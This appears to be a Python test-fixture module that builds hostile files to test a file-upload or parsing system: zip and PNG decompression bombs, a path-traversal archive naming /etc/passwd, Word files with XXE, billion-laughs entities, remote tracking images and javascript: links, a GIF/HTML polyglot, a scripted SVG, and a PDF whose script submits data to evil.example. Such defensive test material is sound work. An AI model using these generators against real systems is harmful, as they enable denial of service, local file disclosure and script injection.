"""Files that mean harm, made by the libraries that make such files."""

import io
import struct
import zipfile
import zlib
from typing import Any

import pypdfium2

from tests.files import pieces

SCRIPT = b"<script>document.title = 'canary'; parent.canary = 1</script>"


def gif_that_is_html() -> bytes:
    """A comment block of a real picture holds the page; both readers find what they look for."""
    picture = pieces.picture("GIF", (20, 20))
    page = b"<!--" + b"-->" + SCRIPT
    comment = b"\x21\xfe" + bytes([len(page)]) + page + b"\0"
    # Behind header, screen descriptor and colour table.
    at = 13 + 3 * 2 ** ((picture[10] & 7) + 1)
    return picture[:at] + comment + picture[at:]


def svg_with_script() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.canary = 1">'
        + SCRIPT
        + b'<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml">'
        + b'<iframe src="javascript:parent.canary=1"></iframe></body></foreignObject>'
        + b'<image href="https://evil.example/pixel.png"/></svg>'
    )


def zip_bomb(size: int = 2**30) -> bytes:
    def write(out: Any) -> None:
        with (
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed,
            packed.open("zeros.bin", "w", force_zip64=True) as entry,
        ):
            for _ in range(size // 2**20):
                entry.write(b"\0" * 2**20)

    return pieces.written(write)


def zip_of_many(count: int = 200_000) -> bytes:
    def write(out: Any) -> None:
        with zipfile.ZipFile(out, "w") as packed:
            for n in range(count):
                packed.writestr(f"{n}", b"")

    return pieces.written(write)


def zip_that_climbs() -> bytes:
    return pieces.archive(**{"../../../../tmp/climbed": b"x", "/etc/passwd": b"x"})


def galaxy(side: int = 50_000) -> bytes:
    """A PNG of 2.5 thousand million pixels in a few megabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * (side // 8 + 1)) for _ in range(side)) + packer.flush()
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def repacked(content: bytes, **changes: bytes) -> bytes:
    """An Office document with some of its parts replaced or added."""

    def write(out: Any) -> None:
        with (
            zipfile.ZipFile(io.BytesIO(content)) as old,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
        ):
            for name in old.namelist():
                if name not in changes:
                    new.writestr(name, old.read(name))
            for name, part in changes.items():
                new.writestr(name, part)

    return pieces.written(write)


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


WORD, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"


def word_with_remote_picture(address: str) -> bytes:
    """A picture that is elsewhere: whoever asks for it tells that the document was opened."""
    content = pieces.word("Look at this")
    relation = (
        f'<Relationship Id="rIdFar" TargetMode="External" Target="{address}" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    )
    relations = part_of(content, RELATIONS).replace(
        b"</Relationships>", f"{relation}</Relationships>".encode()
    )
    blip = (
        "<w:p><w:r><w:drawing>"
        '<wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
        '<a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdFar"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    document = part_of(content, WORD).replace(b"<w:sectPr", f"{blip}<w:sectPr".encode(), 1)
    return repacked(content, **{WORD: document, RELATIONS: relations})


def word_with_entities(entities: bytes, shown: bytes) -> bytes:
    content = pieces.word("MARK")
    document = part_of(content, WORD)
    head, _, rest = document.partition(b"?>")
    doctype = b"<!DOCTYPE w:document [" + entities + b"]>"
    return repacked(content, **{WORD: head + b"?>" + doctype + rest.replace(b"MARK", shown)})


def word_with_xxe(path: str) -> bytes:
    return word_with_entities(f'<!ENTITY far SYSTEM "file://{path}">'.encode(), b"[&far;]")


def word_with_laughs() -> bytes:
    entities = b'<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    return word_with_entities(entities, b"&l9;")


def word_with_links() -> bytes:
    content = pieces.word("MARK")
    relation = (
        '<Relationship Id="rIdJs" TargetMode="External" Target="javascript:parent.canary=1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    )
    relations = part_of(content, RELATIONS).replace(
        b"</Relationships>", f"{relation}</Relationships>".encode()
    )
    link = (
        b'<w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdJs">'
        b"<w:r><w:t>click</w:t></w:r></w:hyperlink>"
    )
    document = part_of(content, WORD).replace(b"<w:sectPr", link + b"<w:sectPr", 1)
    return repacked(content, **{WORD: document, RELATIONS: relations})


def word_bomb() -> bytes:
    """One part of XML that unpacks to a hundred times its size."""
    return repacked(pieces.word(), **{WORD: b"<a>" + b" " * (200 * 2**20) + b"</a>"})


def pdf_of(count: int, *, text: str = "") -> bytes:
    document = pypdfium2.PdfDocument.new()
    for _ in range(count):
        document.new_page(200, 280)
    return pieces.written(document.save)


def pdf_with_script() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('https://evil.example'))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF"
    )


def pdf_of_a_kilometre() -> bytes:
    return pdf_with_script().replace(b"[0 0 200 200]", b"[0 0 1 2834645]")


def sheet_that_claims_a_million_rows() -> bytes:
    content = pieces.sheet()
    part = "xl/worksheets/sheet1.xml"
    claimed = part_of(content, part).replace(b'ref="A1:B2"', b'ref="A1:XFD1048576"')
    return repacked(content, **{part: claimed})


def table_in_one_line(width: int = 3_000_000) -> bytes:
    return b"a," * width


def json_of_brackets(depth: int = 200_000) -> bytes:
    return b"[" * depth
